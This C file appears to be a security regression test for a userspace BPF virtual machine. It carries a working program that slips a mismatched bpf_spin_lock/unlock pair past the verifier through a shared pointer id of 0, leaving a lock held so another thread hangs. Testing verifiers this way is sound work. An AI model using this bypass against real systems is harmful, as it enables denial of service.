/* Attack: bpf_spin_unlock of another element's lock. The verifier pairs a
 * lock with its unlock by (map, offset, pointer id) (vrf_call.c check_lock);
 * a for_each_map_elem callback's value (BPFVM_CB_MAP_VALUE, enter_callback)
 * and an ld_imm64 BPF_PSEUDO_MAP_VALUE pointer (vrf_check_ld_imm64) both
 * carry id 0, so "lock the element the callback got, unlock element 0" is
 * accepted. At run time the callback on element 1 leaves element 1's word
 * holding this thread's id forever, and clears element 0's word whoever
 * holds it. Any other live thread that then locks element 1 waits for a
 * holder that is alive and never unlocks: h_spin_lock spins forever
 * (spin_abandoned is false for a live thread). The kernel gives every
 * map-value pointer a lock can be taken through a distinct id. */
#include <pthread.h>
#include <time.h>
#include <unistd.h>

#include "atk.h"

static struct bpfvm_prog *prog;
static volatile int done;

static void *other_lcore(void *arg)
{
	(void)arg;
	uint8_t ctx[VT_CTX_SIZE] = {0};
	bpfvm_prog_run(prog, ctx, sizeof ctx); /* locks element 0 then 1 */
	done = 1;
	return NULL;
}

int main(void)
{
	struct bpfvm_registry *reg;
	if (bpfvm_registry_create(&reg))
		return 2;
	struct bpfvm_map_def def = {.type = BPFVM_MAP_ARRAY,
				    .key_size = 4,
				    .value_size = 8,
				    .max_entries = 2,
				    .has_spin_lock = true,
				    .spin_lock_off = 0,
				    .name = "locked"};
	struct bpfvm_map *m;
	if (bpfvm_map_create(reg, &def, &m))
		return 2;
	const struct bpfvm_insn p[] = {
	    /* 0 */ LD_MAP(1, 0),
	    /* 2 */ LD_FUNC(2, 6), /* callback at 9 */
	    /* 4 */ MOV64_K(3, 0),
	    /* 5 */ MOV64_K(4, 0),
	    /* 6 */ CALL(164), /* bpf_for_each_map_elem */
	    /* 7 */ MOV64_K(0, 0),
	    /* 8 */ EXIT(),
	    /* callback(map, key, value, ctx) */
	    /* 9 */ MOV64_X(1, 3),
	    /* 10 */ CALL(93),		    /* bpf_spin_lock(&value->lock) */
	    /* 11 */ LD_MAP_VALUE(1, 0, 0), /* &element0->lock, id 0 as well */
	    /* 13 */ CALL(94),		    /* bpf_spin_unlock(&element0->lock) */
	    /* 14 */ MOV64_K(0, 0),
	    /* 15 */ EXIT(),
	};
	int err = atk_load(reg, &vt_type, p, NINSNS(p), &m, 1, true, &prog);
	printf("verifier: %s (%d)\n", err ? atk_log : "accepted", err);
	if (err) { /* held: the verifier refused it */
		bpfvm_map_put(m);
		bpfvm_registry_destroy(reg);
		return 0;
	}
	uint8_t ctx[VT_CTX_SIZE] = {0};
	bpfvm_prog_run(prog, ctx, sizeof ctx);
	uint32_t k1 = 1;
	uint32_t word = *(uint32_t *)bpfvm_map_lookup(m, &k1);
	printf("after one run element 1's lock word = %u (this thread's id: %d)\n", word,
	       (int)gettid());
	pthread_t t;
	pthread_create(&t, NULL, other_lcore, NULL);
	for (int i = 0; i < 30 && !done; i++)
		usleep(100 * 1000);
	printf("another thread running the program: %s\n",
	       done ? "finished" : "STILL SPINNING after 3 s in bpf_spin_lock (never ends)");
	/* fails (1) when the lock leaked */
	fflush(stdout);
	_exit(word != 0 || !done ? 1 : 0);
}
